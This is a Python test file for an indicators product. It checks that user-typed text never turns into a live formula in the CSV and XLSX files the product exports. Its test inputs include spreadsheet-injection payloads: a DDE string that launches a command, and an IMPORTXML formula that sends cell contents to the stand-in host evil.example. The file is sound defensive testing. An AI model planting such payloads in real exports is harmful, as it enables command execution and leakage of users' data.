"""Formula injection: text a user typed (an indicator name, a source title, a quote, a note, an event title,
a filter) never becomes a live formula in a CSV or XLSX the product writes. In XLSX we check the cell types
openpyxl reads back (no formula cells at all); in CSV, that no cell starts the way a spreadsheet starts a
formula (``= + - @``, tab, carriage return)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from indicators.bootstrap import prepare
from indicators.csvformat import FORMULA_PREFIXES, observations_csv
from indicators.events import events_csv
from indicators.exports import chart_csv, chart_xlsx
from indicators.store import Store

FORMULAS = [
    "=1+1",
    "+41 22 000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\x00=1 (a NUL first)",
    "note\r=1+1 (a formula after a bare carriage return)",
    '=HYPERLINK("https://evil.example","click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
]
STORE = prepare(Store())
INDICATOR = STORE.indicator("gdp_growth")
SERIES = STORE.series("gdp_growth")
EXPORTED = dt.datetime(2026, 11, 23, 12, 0)


def _formula_cells(workbook_bytes: bytes) -> list[tuple[str, object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes)).active
    return [(cell.coordinate, cell.value) for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _risky_csv_cells(csv_bytes: bytes) -> list[str]:
    text = csv_bytes.decode("utf-8")
    while text.startswith("# "):  # the metadata header of a chart download: comment lines, not cells
        text = text.split("\n", 1)[1]
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [cell for cell in cells if cell.startswith(FORMULA_PREFIXES) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _chart_files(text: str) -> tuple[bytes, bytes]:
    indicator = INDICATOR.model_copy(update={"name": text, "benchmark_label": text})
    series = SERIES.assign(source_title=text, quote=text, note=text, entity_name=text)
    filters = {"entities": text, "from": text}
    return (
        chart_xlsx(series, indicator, filters, EXPORTED),
        chart_csv(series, indicator, filters, EXPORTED),
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_chart_downloads_never_carry_a_live_formula(text):
    xlsx, csv_bytes = _chart_files(text)
    assert not _formula_cells(xlsx)
    assert not _risky_csv_cells(csv_bytes)


@pytest.mark.parametrize("text", FORMULAS)
def test_our_csv_and_the_events_csv_never_carry_a_live_formula(text):
    table = STORE.observations_table(["gdp_growth"]).assign(quote=text, note=text, entity=text, period=text)
    assert not _risky_csv_cells(observations_csv(table))
    events = STORE.events().assign(title=text, quote=text, note=text)
    assert not _risky_csv_cells(events_csv(events))


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_any_text_in_a_chart_download_stays_text(text):
    xlsx, csv_bytes = _chart_files(text)
    assert not _formula_cells(xlsx)
    assert not _risky_csv_cells(csv_bytes)
